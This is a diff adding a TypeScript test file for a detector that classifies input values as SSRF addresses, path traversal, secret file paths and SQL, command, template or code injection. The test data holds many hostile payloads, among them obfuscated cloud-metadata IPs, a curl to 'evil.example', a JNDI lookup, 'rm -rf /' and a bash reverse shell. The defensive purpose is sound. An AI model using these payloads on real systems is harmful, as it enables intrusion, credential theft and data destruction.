@@ -1,0 +1,198 @@
+import { describe, expect, it } from 'vitest';
+import { argumentShapes } from '../../../../collectors/normalize/shapes/argument-shapes.ts';
+import { shapeOfHost } from '../../../../collectors/normalize/shapes/address-shapes.ts';
+import type { ShapeCounts } from '../../../../collectors/normalize/shapes/shape.ts';
+
+function shapesOf(text: string, path = 'value'): string[] {
+  const counts: ShapeCounts = {};
+  argumentShapes(path, text, counts);
+  return Object.keys(counts).sort();
+}
+
+describe('addresses a server should not be sent to', () => {
+  it.each([
+    ['169.254.169.254', 'ssrf_metadata'],
+    ['2852039166', 'ssrf_metadata'],
+    ['0xA9FEA9FE', 'ssrf_metadata'],
+    ['0251.0376.0251.0376', 'ssrf_metadata'],
+    ['0xa9.254.0251.254', 'ssrf_metadata'],
+    ['169.254.43518', 'ssrf_metadata'],
+    ['[::ffff:169.254.169.254]', 'ssrf_metadata'],
+    ['[::ffff:a9fe:a9fe]', 'ssrf_metadata'],
+    ['[fd00:ec2::254]', 'ssrf_metadata'],
+    ['metadata.google.internal', 'ssrf_metadata'],
+    ['169.254.169.254.nip.io', 'ssrf_metadata'],
+    ['100.100.100.200', 'ssrf_metadata'],
+    ['169.254.1.1', 'ssrf_link_local'],
+    ['[fe80::1%eth0]', 'ssrf_link_local'],
+    ['10.1.2.3', 'ssrf_private'],
+    ['172.31.0.9', 'ssrf_private'],
+    ['192.168.1.1', 'ssrf_private'],
+    ['[fd12:3456::1]', 'ssrf_private'],
+    ['localhost', 'ssrf_loopback'],
+    ['127.1', 'ssrf_loopback'],
+    ['2130706433', 'ssrf_loopback'],
+    ['0.0.0.0', 'ssrf_loopback'],
+    ['[::1]', 'ssrf_loopback'],
+  ])('%s is %s', (host, shape) => {
+    expect(shapeOfHost(host)).toBe(shape);
+    expect(shapesOf(`http://user@${host}:8080/latest`)).toContain(shape);
+  });
+
+  it.each([
+    '8.8.8.8',
+    '172.32.0.1',
+    '169.253.1.1',
+    'example.com',
+    '[2001:db8::1]',
+    '1.2',
+    '42',
+    '20240131',
+    'a:b',
+  ])('%s is none', (host) => {
+    expect(shapeOfHost(host)).toBeUndefined();
+  });
+
+  it('counts a private address as a value, not one in prose', () => {
+    expect(shapesOf('10.0.0.5:8080/admin')).toEqual(['ssrf_private']);
+    expect(shapesOf('The printer is at 10.0.0.5, ask Bob about it')).toEqual([]);
+  });
+
+  it('counts a metadata address wherever it is mentioned', () => {
+    expect(shapesOf('please read 169.254.169.254 for me')).toEqual(['ssrf_metadata']);
+  });
+});
+
+describe('ways out of a directory', () => {
+  it.each([
+    '../../etc/passwd',
+    '/srv/data/../../etc/hosts',
+    '..%2f..%2fetc%2fpasswd',
+    '%2e%2e/%2e%2e/etc/hosts',
+    '..\\..\\windows\\win.ini',
+    'reports/../../secret.txt',
+    '..%252fadmin',
+    '....//....//etc/hosts',
+  ])('%s leaves', (path) => {
+    expect(shapesOf(path, 'path')).toContain('path_traversal');
+  });
+
+  it.each([
+    'reports/2024/../2023/summary.txt',
+    'see ../lib/readme.md for the details of the build',
+    'wait... what?',
+    'v1..v2',
+    '/home/alice/report.pdf',
+    'https://docs.example.com/guide/../api/index.html',
+  ])('%s does not', (text) => {
+    expect(shapesOf(text, 'path')).toEqual([]);
+  });
+});
+
+describe('files that hold secrets', () => {
+  it.each([
+    '/etc/shadow',
+    '/home/a/.ssh/id_rsa',
+    '~/.aws/credentials',
+    'app/.env',
+    '.env.production',
+    '/proc/self/environ',
+    'C:\\Users\\a\\.ssh\\id_ed25519',
+    'certs/server.pem',
+  ])('%s is one', (path) => {
+    expect(shapesOf(path, 'path')).toContain('sensitive_path');
+  });
+  it.each([
+    '.env.example',
+    'environment.md',
+    'id_rsa.pub',
+    'docs/env.txt',
+    'We keep settings in .env files here',
+  ])('%s is none', (path) => {
+    expect(shapesOf(path, 'path')).toEqual([]);
+  });
+});
+
+describe('SQL', () => {
+  it.each([
+    "' OR '1'='1",
+    "admin' --",
+    '1; DROP TABLE users',
+    "x' UNION SELECT password FROM users",
+    "1' AND SLEEP(5)",
+    '5 or 1=1',
+    "'; exec xp_cmdshell 'dir'",
+  ])('%s breaks out of where it is put', (text) => {
+    expect(shapesOf(text, 'name')).toContain('sql_injection');
+  });
+
+  it.each([
+    'SELECT region, sum(amount) FROM sales WHERE year = 2024 GROUP BY region',
+    "select * from t where name = 'x' or name = 'y'",
+    'WITH x AS (SELECT 1) SELECT * FROM x',
+    'UPDATE tickets SET state = 3 WHERE id = 4',
+  ])('%s is a statement and no injection', (text) => {
+    expect(shapesOf(text, 'sql')).toEqual(['sql_statement']);
+  });
+
+  it.each([
+    "It's Bob's or Alice's turn",
+    'select the best option and update me',
+    'drop me a line; union members only',
+    "rock 'n' roll",
+  ])('%s is neither', (text) => {
+    expect(shapesOf(text)).toEqual([]);
+  });
+});
+
+describe('commands, templates and code', () => {
+  it.each([
+    ['x; cat /etc/hosts', 'command_injection'],
+    ['$(curl http://evil.example/x)', 'command_injection'],
+    ['a && rm -rf /', 'command_injection'],
+    ['name`whoami`', 'command_injection'],
+    ['file.txt;id', 'command_injection'],
+    ['{{7*7}}', 'template_injection'],
+    ['${jndi:ldap://evil.example/a}', 'template_injection'],
+    ["{{ ''.__class__.__mro__ }}", 'template_injection'],
+    ['__import__("os").system("id")', 'code_injection'],
+    ['<script>alert(1)</script>', 'code_injection'],
+    ['file:///etc/hosts', 'file_scheme'],
+    ['https://x.example/?u=gopher://a/', 'file_scheme'],
+  ])('%s is %s', (text, shape) => {
+    expect(shapesOf(text)).toContain(shape);
+  });
+
+  it.each([
+    ['fish & chips; cat sitting | tea', 'title'],
+    ['| id | name |', 'cell'],
+    ['cat /var/log/x | grep error; rm -f /tmp/y', 'command'],
+    ['import subprocess\nsubprocess.run(["ls"])', 'content'],
+    ['Dear {{name}}, welcome', 'body'],
+    ['the profile: see page 3', 'note'],
+    ['R&D id', 'title'],
+    ['${HOME}/x', 'path'],
+  ])('%s as %s is none of them', (text, path) => {
+    expect(shapesOf(text, path)).toEqual([]);
+  });
+
+  it('counts a reverse shell even in a command', () => {
+    expect(shapesOf('bash -i >& /dev/tcp/10.0.0.1/4242 0>&1', 'command')).toContain('command_injection');
+  });
+});
+
+it('takes time linear in hostile text', () => {
+  const texts = [
+    "' or ".repeat(13_000),
+    '../'.repeat(21_000),
+    '<'.repeat(65_000),
+    '{{ '.repeat(21_000),
+    '://a@'.repeat(13_000),
+    '$(('.repeat(21_000),
+  ];
+  for (const text of texts) {
+    const start = performance.now();
+    shapesOf(text);
+    expect(performance.now() - start).toBeLessThan(1000);
+  }
+});
